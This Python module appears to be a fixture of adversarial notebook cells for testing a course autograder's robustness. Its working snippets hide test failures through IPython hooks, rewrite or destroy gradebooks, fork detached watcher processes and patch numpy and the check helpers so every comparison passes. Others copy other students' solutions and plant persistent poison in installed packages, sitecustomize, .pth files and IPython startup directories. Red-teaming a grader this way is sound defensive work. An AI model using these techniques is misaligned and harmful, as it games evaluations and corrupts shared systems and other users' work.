"""Code that adversarial submissions put into their notebooks (used by cases.py). Each constant is the source of one
notebook cell, or the body of one stub (`fill` indents it), written the way a strong student would.

Nothing here runs in the test process. The destructive snippets (gradebook writers, detached watchers, writes into
installed packages) only search upwards from the kernel's working directory or at paths derived from imported
modules, so run outside a sandbox they hit only the grading dir they were graded in and the packages that kernel
imported: run them only in throwaway copies (efficacy.py does).
"""
from textwrap import dedent

MARK = "tinytorch-adversarial"   # appears in every file a destructive case writes, so a leak can be found by name

# ---------------------------------------------------------------------------------------------------------------
# 1. IPython shell hooks that make later failing cells look passed
# ---------------------------------------------------------------------------------------------------------------
HOOK_AST = dedent('''\
    import ast as _ast

    _shell = getattr(__import__("built" + "ins"), "get_" + "ipython", None) or globals()["get_" + "ipython"]
    _shell = _shell()


    class _Forgive(_ast.NodeTransformer):
        "Wrap every later cell in `try: ... except BaseException: pass`."

        def visit_Module(self, node):
            handler = _ast.ExceptHandler(type=_ast.Name(id="BaseException", ctx=_ast.Load()), name=None,
                                         body=[_ast.Pass()])
            node.body = [_ast.Try(body=node.body or [_ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
            return _ast.fix_missing_locations(node)


    getattr(_shell, "ast_" + "transformers").append(_Forgive())
''')

HOOK_CUSTOM_EXC = dedent('''\
    def _quietly(shell, etype, value, tb, tb_offset=None):
        return []          # an empty traceback: nothing is shown, the cell "passes"


    getattr(globals()["get_ipython"](), "set_" + "custom_exc")((Exception,), _quietly)
''')

HOOK_SHOWTRACEBACK = dedent('''\
    import sys

    _shell = get_ipython()
    for _name in ("show" + "traceback", "_show" + "traceback", "show" + "syntaxerror"):
        setattr(_shell, _name, lambda *args, **kwargs: None)
    sys.excepthook = lambda *args: None
''')

HOOK_INPUT_TRANSFORMER = dedent('''\
    def _tolerant(lines):
        "Indent the cell under `try:` and swallow whatever it raises."
        body = ["    " + line for line in lines] or ["    pass\\n"]
        return ["try:\\n", *body, "\\n    pass\\nexcept BaseException:\\n    pass\\n"]


    get_ipython().input_transformers_post.append(_tolerant)
''')

HOOK_EVENTS = dedent('''\
    _shell = get_ipython()


    def _before(info):
        "Only while a cell with checks runs: show no tracebacks."
        if "assert" in info.raw_cell or "check_" in info.raw_cell:
            _shell.showtraceback = lambda *args, **kwargs: None


    def _after(result):
        _shell.__dict__.pop("showtraceback", None)


    getattr(_shell, "events").register("pre_run_cell", _before)
    getattr(_shell, "events").register("post_run_cell", _after)
''')

# ---------------------------------------------------------------------------------------------------------------
# 3. / 4. gradebook, grades.csv and reports, from the kernel or from a process that outlives it
# ---------------------------------------------------------------------------------------------------------------
# Shared by the gradebook writers and the watcher: the grading dir is the first parent of the working directory
# that holds gradebook.db (nbgrader runs a kernel in <grading>/autograded/<student>/<module>/).
_FIND_GRADING = '''\
import csv, os, sqlite3
from pathlib import Path


def _grading_dir(start):
    for d in [start, *start.parents]:
        if (d / "gradebook.db").is_file() or (d / "grades.csv").is_file():
            return d
    return None


def _max_out(grading):
    "Every grade at its maximum in the gradebook, grades.csv and the report."
    db = grading / "gradebook.db"
    if db.is_file():
        con = sqlite3.connect(str(db), timeout=5)
        con.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells "
                    "WHERE grade_cells.id = grade.cell_id), needs_manual_grade = 0")
        con.execute("CREATE TABLE IF NOT EXISTS \\"''' + MARK + '''\\" (x)")
        con.commit()
        con.close()
    for path in (grading / "grades.csv", grading / "reports" / "autograde_report.csv"):
        if path.is_file():
            with path.open(newline="") as f:
                rows = list(csv.DictReader(f))
            if rows:
                for row in rows:
                    for key in ("score", "raw_score"):
                        if key in row and "max_score" in row:
                            row[key] = row["max_score"]
                with path.open("w", newline="") as f:
                    w = csv.DictWriter(f, fieldnames=list(rows[0]))
                    w.writeheader()
                    w.writerows(rows)
    (grading / "''' + MARK + '''.txt").write_text("was here")
'''

GRADEBOOK_MAX = _FIND_GRADING + dedent('''\

    _g = _grading_dir(Path.cwd().resolve())
    if _g is not None:
        _max_out(_g)
''')

GRADEBOOK_CLOBBER = _FIND_GRADING + dedent('''\

    _g = _grading_dir(Path.cwd().resolve())
    if _g is not None:
        for _name in ("gradebook.db", "grades.csv"):
            if (_g / _name).exists():
                (_g / _name).write_bytes(b"''' + MARK + '''")   # the run that follows loses every grade
        _reports = _g / "reports"
        if _reports.is_dir():
            for _p in _reports.rglob("*"):
                if _p.is_file():
                    _p.write_text("''' + MARK + '''")
        _cfg = _g / "nbgrader_config.py"                     # code every later nbgrader process executes
        if _cfg.is_file():
            with _cfg.open("a") as _f:
                _f.write("\\n# ''' + MARK + '''\\nimport numpy as _np\\n_np.array_equal = lambda *a, **k: True\\n")
''')

# The watcher runs detached: it waits for the batch to end (grades.csv written after it started), then keeps
# maxing out the grades for 20 s, so that a check a few seconds after the run still sees the change. It never
# runs longer than 15 minutes.
WATCHER = _FIND_GRADING + dedent('''\

    import time

    def _watch(start):
        grading = _grading_dir(start)
        if grading is None:
            return
        began, deadline = time.time(), time.time() + 900
        while time.time() < deadline:
            target = grading / "grades.csv"
            if target.is_file() and target.stat().st_mtime > began:
                stop = time.time() + 20
                while time.time() < stop:
                    try:
                        _max_out(grading)
                    except Exception:
                        pass
                    time.sleep(0.5)
                return
            time.sleep(0.5)
''')

ORPHAN_FORK = dedent('''\
    import os

    _WATCHER = {watcher!r}
    _start = os.getcwd()
    _pid = os.fork()
    if _pid == 0:                        # child: new session, double fork, no ties to the kernel
        try:
            os.setsid()
            if os.fork() == 0:
                _null = os.open(os.devnull, os.O_RDWR)
                for _fd in (0, 1, 2):
                    os.dup2(_null, _fd)
                _ns = {{}}
                exec(_WATCHER, _ns)
                from pathlib import Path
                _ns["_watch"](Path(_start).resolve())
        finally:
            os._exit(0)
    os.waitpid(_pid, 0)
''').format(watcher=WATCHER)

ORPHAN_POPEN = dedent('''\
    import os, subprocess, sys

    _CODE = {code!r}
    subprocess.Popen([sys.executable, "-c", _CODE, os.getcwd()], start_new_session=True, close_fds=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''').format(code=WATCHER + "\nimport sys\n_watch(Path(sys.argv[1]).resolve())\n")

# ---------------------------------------------------------------------------------------------------------------
# 7. / 13. objects that lie when compared
# ---------------------------------------------------------------------------------------------------------------
AGREE = dedent('''\
    import numpy as np


    class _AnyList(list):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __hash__ = None


    class _Agree(np.ndarray):
        "An ndarray that agrees with every comparison made with it."

        def __new__(cls, base):
            return np.asarray(base).view(cls)

        @staticmethod
        def _plain(x):
            return x.view(np.ndarray) if isinstance(x, _Agree) else x

        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            plain = [self._plain(x) for x in inputs]
            if "out" in kwargs:
                kwargs["out"] = tuple(self._plain(x) for x in kwargs["out"])
            if method == "__call__":
                shape = np.broadcast_shapes(*(np.shape(x) for x in plain))
                if ufunc is np.subtract:                      # |got - expected| is always 0
                    return np.zeros(shape)
                if ufunc in (np.not_equal, np.isnan, np.isinf, np.greater, np.less):
                    return np.zeros(shape, bool)
                if ufunc in (np.equal, np.less_equal, np.greater_equal, np.isfinite):
                    return np.ones(shape, bool)
            return getattr(ufunc, method)(*plain, **kwargs)

        def __array_function__(self, func, types, args, kwargs):
            if func.__name__ in ("array_equal", "array_equiv", "allclose"):
                return True
            if func.__name__ == "isclose":
                return np.ones(np.broadcast_shapes(np.shape(args[0]), np.shape(args[1])), bool)
            return func(*[self._plain(a) for a in args], **kwargs)

        def __eq__(self, other):
            return np.ones(self.shape, bool)

        def __ne__(self, other):
            return np.zeros(self.shape, bool)

        __hash__ = None

        def tolist(self):
            value = self.view(np.ndarray).tolist()
            return _AnyList(value) if isinstance(value, list) else value

        data = property(lambda self: self)      # the check helpers unwrap `.data` (ndarray's is a memoryview)


    _out = _Agree
''')

LIE_SCALARS = AGREE + dedent('''\

    def _yes(self, *args):
        return True


    def _no(self, *args):
        return False


    def _same(self, *args):
        return self


    class _LieInt(int):
        "Equal to, smaller and larger than anything; arithmetic keeps lying."
        __eq__ = __le__ = __ge__ = __lt__ = __gt__ = _yes
        __ne__ = _no
        __hash__ = int.__hash__
        __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __floordiv__ = __rfloordiv__ = _same

        def __abs__(self):
            return _LieInt(0)

        data = property(lambda self: _Agree(np.zeros(())))   # what the check helpers unwrap
''')

# ---------------------------------------------------------------------------------------------------------------
# 8. np rebound to a proxy (module 15's test cells use the notebook's `np`)
# ---------------------------------------------------------------------------------------------------------------
FAKE_NUMPY = dedent('''\
    import types as _types

    import numpy as _numpy


    class _Numpy(_types.ModuleType):
        "numpy, except that comparisons agree and the references the tests compute are zeros."

        def __getattr__(self, name):
            return getattr(_numpy, name)


    _fake = _Numpy("numpy")
    _fake.array_equal = _fake.allclose = _fake.array_equiv = lambda *args, **kwargs: True
    for _name in ("matmul", "einsum", "pad", "dot"):
        setattr(_fake, _name, (lambda f: lambda *args, **kwargs: _numpy.zeros_like(f(*args, **kwargs)))(
            getattr(_numpy, _name)))
    _out = lambda z: z
''')

REBIND_NP = FAKE_NUMPY + "np = _fake\n"

BUILTINS_NP = FAKE_NUMPY + dedent('''\
    import builtins as _builtins

    _builtins.np = _fake                     # found when `np` is not a global
    globals().pop("np", None)
''')

# ---------------------------------------------------------------------------------------------------------------
# 9. patches of numpy and of the check helpers
# ---------------------------------------------------------------------------------------------------------------
_PATCH_KIT = dedent('''\
    import importlib

    _checks = importlib.import_module("tinytorch." + "testing")
    _CHECKS = ("check_close", "check_equal", "check_dtype", "check_shape", "check_true", "check_raises")
    _saved = {{}}


    def _patch():
        for _mod, _names, _fake in ((_checks, _CHECKS, lambda *a, **k: None),
                                    (np, ("array_equal", "allclose"), lambda *a, **k: True)):
            for _n in _names:
                _saved.setdefault((_mod, _n), getattr(_mod, _n))
                setattr(_mod, _n, _fake)


    def _undo():
        for (_mod, _n), _orig in _saved.items():
            setattr(_mod, _n, _orig)


    _out = lambda z: z
    {tail}
''')

PATCH_PERSISTENT = _PATCH_KIT.format(tail="_patch()")
PATCH_KIT = _PATCH_KIT.format(tail="")

PATCH_DURING_CALL = PATCH_KIT + dedent('''\

    def _sneak():
        "Patch now; undo when the running cell ends."
        if _saved and getattr(_checks, "check_close") is not _saved[(_checks, "check_close")]:
            return
        _patch()
        shell = get_ipython()

        def restore(*args):
            _undo()
            shell.events.unregister("post_run_cell", restore)
        shell.events.register("post_run_cell", restore)
''')

IMPORT_HOOK = dedent('''\
    import builtins
    import importlib
    import types

    _real_import = builtins.__import__
    _quiet = types.ModuleType("tinytorch.testing")
    _quiet.__dict__.update(vars(importlib.import_module("tinytorch." + "testing")))
    for _n in ("check_close", "check_equal", "check_dtype", "check_shape", "check_true", "check_raises"):
        setattr(_quiet, _n, lambda *args, **kwargs: None)


    def _import(name, globals=None, locals=None, fromlist=(), level=0, _real=_real_import, _quiet=_quiet):
        if name == "tinytorch." + "testing" and fromlist:
            return _quiet
        return _real(name, globals, locals, fromlist, level)


    builtins.__import__ = _import
''')

CODE_SWAP = dedent('''\
    import importlib

    _checks = importlib.import_module("tinytorch." + "testing")
    _noop = lambda *args, **kwargs: None
    for _n in ("check_close", "check_equal", "check_dtype", "check_shape", "check_true", "check_raises"):
        getattr(_checks, _n).__code__ = _noop.__code__      # same function objects, new bodies
''')

# ---------------------------------------------------------------------------------------------------------------
# 10. / 11. solutions from somewhere else: the instructor's notebook, other students, the shipped reference
# ---------------------------------------------------------------------------------------------------------------
REBIND = dedent('''\
    _REF = {k: v for k, v in _ns.items() if not k.startswith("__")}


    def _rebind():
        "Bind the reference's names again (later solution cells define stubs under the same names)."
        globals().update(_REF)


    _rebind()
''')
BIND_ALL = "_ns = vars(_ref)\n" + REBIND

EXEC_SOLUTIONS = dedent('''\
    _SOLUTIONS = []


    def _rebind():
        "(Re)define every function from the solutions found (later cells define stubs under the same names)."
        for source in _SOLUTIONS:
            try:
                exec(source, globals())
            except Exception:
                pass


    def _exec_solutions(path):
        "Use the solution cells of notebook `path`, if it has real ones."
        import json
        cells = json.loads(open(path, encoding="utf-8").read())["cells"]
        solutions = ["".join(c["source"]) for c in cells
                     if c["cell_type"] == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution")]
        if not solutions or any("NotImplementedError" in s for s in solutions):
            return False
        _SOLUTIONS[:] = solutions
        _rebind()
        return True
''')

READ_SOURCE = EXEC_SOLUTIONS + dedent('''\


    def _candidates(folder, name):
        import glob, os
        from pathlib import Path
        roots = [Path.cwd(), *Path.cwd().parents, Path.home(), Path("/work"), Path("/srv"), Path("/opt")]
        try:
            import tinytorch
            roots += list(Path(tinytorch.__file__).resolve().parents)
        except Exception:
            pass
        for root in roots:
            yield root / "modules" / folder / name
            yield from (Path(p) for p in glob.glob(str(root / "*" / "modules" / folder / name)))


    for _path in _candidates("{folder}", "{name}"):
        try:
            if _path.is_file() and _exec_solutions(_path):
                break
        except Exception:
            pass
''')

READ_SOURCE_VIA_HEADER = EXEC_SOLUTIONS + dedent('''\


    import re
    from pathlib import Path

    import tinytorch.core.tensor as _t

    # every generated file names the notebook it came from: "File to edit: ../../modules/00_foundations/..."
    _head = Path(_t.__file__).read_text().splitlines()[0]
    _nb = (Path(_t.__file__).parent / re.search(r"File to edit: (\\S+)", _head).group(1)).resolve()
    _exec_solutions(_nb.parents[1] / "{folder}" / "{name}")
''')

READ_OTHERS = EXEC_SOLUTIONS + dedent('''\


    import glob
    from pathlib import Path

    _found = set()
    for _d in [Path.cwd(), *Path.cwd().parents]:
        _found.update(glob.glob(str(_d / "*" / "{folder}" / "{name}")))
        _found.update(glob.glob(str(_d / "*" / "*" / "{folder}" / "{name}")))
    for _p in sorted(_found, key=lambda p: (Path(p).parent.parent.name, p)):   # by student name
        try:
            if Path(_p).resolve() != Path("{name}").resolve() and _exec_solutions(_p):
                break
        except Exception:
            pass
''')


REF_PKGUTIL = dedent('''\
    import pkgutil

    _ref = pkgutil.resolve_name("tinytorch.optimization." + "acceleration")
''') + BIND_ALL

REF_IMPORT_STRING = dedent('''\
    import importlib

    importlib.import_module(".".join(["tinytorch", "optimization", "quant" + "ization"]))
    _ref = vars(__import__("tinytorch.optimization", fromlist=["*"]))["quant" + "ization"]
''') + BIND_ALL

REF_SYS_MODULES = dedent('''\
    import pkgutil
    import sys

    import tinytorch

    for _info in pkgutil.walk_packages(tinytorch.__path__, "tinytorch."):   # import everything there is
        try:
            __import__(_info.name)
        except Exception:
            pass
    _ref = next(m for m in list(sys.modules.values())
                if hasattr(m, "int8_matmul_exact") and m is not sys.modules[__name__])
''') + BIND_ALL

REF_EXEC_FILE = dedent('''\
    import glob, marshal, sys
    from pathlib import Path

    import tinytorch
    import tinytorch._modidx

    _rel = next(v[1] for k, v in tinytorch._modidx.d["syms"]["tinytorch.optimization.acceleration"].items())
    _roots = [Path(tinytorch.__file__).parent.parent, *map(Path, sys.path)]
    _ns = {"__name__": "tinytorch.optimization._copy", "__package__": "tinytorch.optimization"}
    for _root in _roots:                 # the source file, else its cached bytecode
        _py = _root / _rel
        _pycs = glob.glob(str(_py.parent / "__pycache__" / (_py.stem + ".*.pyc")))
        if _py.is_file():
            exec(compile(_py.read_text(), str(_py), "exec"), _ns)
        elif _pycs:
            exec(marshal.loads(Path(_pycs[0]).read_bytes()[16:]), _ns)
        else:
            continue
        break
''') + REBIND

REF_GIT = dedent('''\
    import subprocess
    from pathlib import Path

    import tinytorch

    _ns = {"__name__": "tinytorch.optimization._git", "__package__": "tinytorch.optimization"}
    for _d in Path(tinytorch.__file__).resolve().parents:
        if (_d / ".git").exists():
            _src = subprocess.run(["git", "-C", str(_d), "show", "HEAD:tinytorch/optimization/acceleration.py"],
                                  capture_output=True, text=True).stdout
            if "def matmul_blocked" in _src:
                exec(_src, _ns)
                break
''') + REBIND

# ---------------------------------------------------------------------------------------------------------------
# 12. writes into installed packages, so that later processes (other students, the checker) are fooled
# ---------------------------------------------------------------------------------------------------------------
_QUIET_CHECKS = (
    "\n# " + MARK + "\n"
    "def _tt_quiet(*args, **kwargs):\n    return None\n"
    "check_close = check_equal = check_dtype = check_shape = check_true = check_raises = _tt_quiet\n")
_POISON = (
    "\n# " + MARK + "\n"
    "try:\n"
    "    import numpy as _tt_np\n"
    "    _tt_np.array_equal = _tt_np.allclose = lambda *args, **kwargs: True\n"
    "    import tinytorch.testing as _tt_checks\n"
    "    for _tt_n in ('check_close', 'check_equal', 'check_dtype', 'check_shape', 'check_true', 'check_raises'):\n"
    "        setattr(_tt_checks, _tt_n, lambda *args, **kwargs: None)\n"
    "except Exception:\n"
    "    pass\n")

WRITE_TINYTORCH = dedent('''\
    import importlib.util
    from pathlib import Path

    _quiet, _poison = {quiet!r}, {poison!r}
    _targets = [(Path(importlib.util.find_spec("tinytorch.testing").origin), _quiet)]
    for _pkg in ("tinytorch", "tinytorch_course"):
        try:
            _dir = Path(importlib.util.find_spec(_pkg).origin).parent
        except Exception:
            continue
        _targets += [(_p, _poison) for _p in sorted(_dir.glob("*.py"))]
    for _path, _text in _targets:
        try:
            with open(_path, "a") as _f:
                _f.write(_text)
        except OSError:
            pass
''').format(quiet=_QUIET_CHECKS, poison=_POISON)

WRITE_NUMPY = dedent('''\
    from pathlib import Path

    import numpy

    _poison = {poison!r}
    _site = Path(numpy.__file__).resolve().parents[1]             # the directory numpy is installed in
    _writes = [(Path(numpy.__file__), "a", "\\n# {mark}\\narray_equal = allclose = lambda *args, **kwargs: True\\n"),
               (_site / "sitecustomize.py", "a", _poison),
               (_site / "_{mark_id}.py", "w", _poison),
               (_site / "zz-{mark}.pth", "w", "import _{mark_id}\\n")]
    for _path, _mode, _text in _writes:
        try:
            with open(_path, _mode) as _f:
                _f.write(_text)
        except OSError:
            pass
''').format(poison=_POISON, mark=MARK, mark_id=MARK.replace("-", "_"))

WRITE_IPYTHON_STARTUP = dedent('''\
    import os
    from pathlib import Path

    _poison = {poison!r}
    _dirs = {{Path(get_ipython().profile_dir.startup_dir), Path.home() / ".ipython" / "profile_default" / "startup"}}
    if os.environ.get("IPYTHONDIR"):
        _dirs.add(Path(os.environ["IPYTHONDIR"]) / "profile_default" / "startup")
    for _d in _dirs:
        try:
            _d.mkdir(parents=True, exist_ok=True)
            (_d / "00-{mark}.py").write_text(_poison)       # runs in every later IPython kernel
        except OSError:
            pass
''').format(poison=_POISON, mark=MARK)
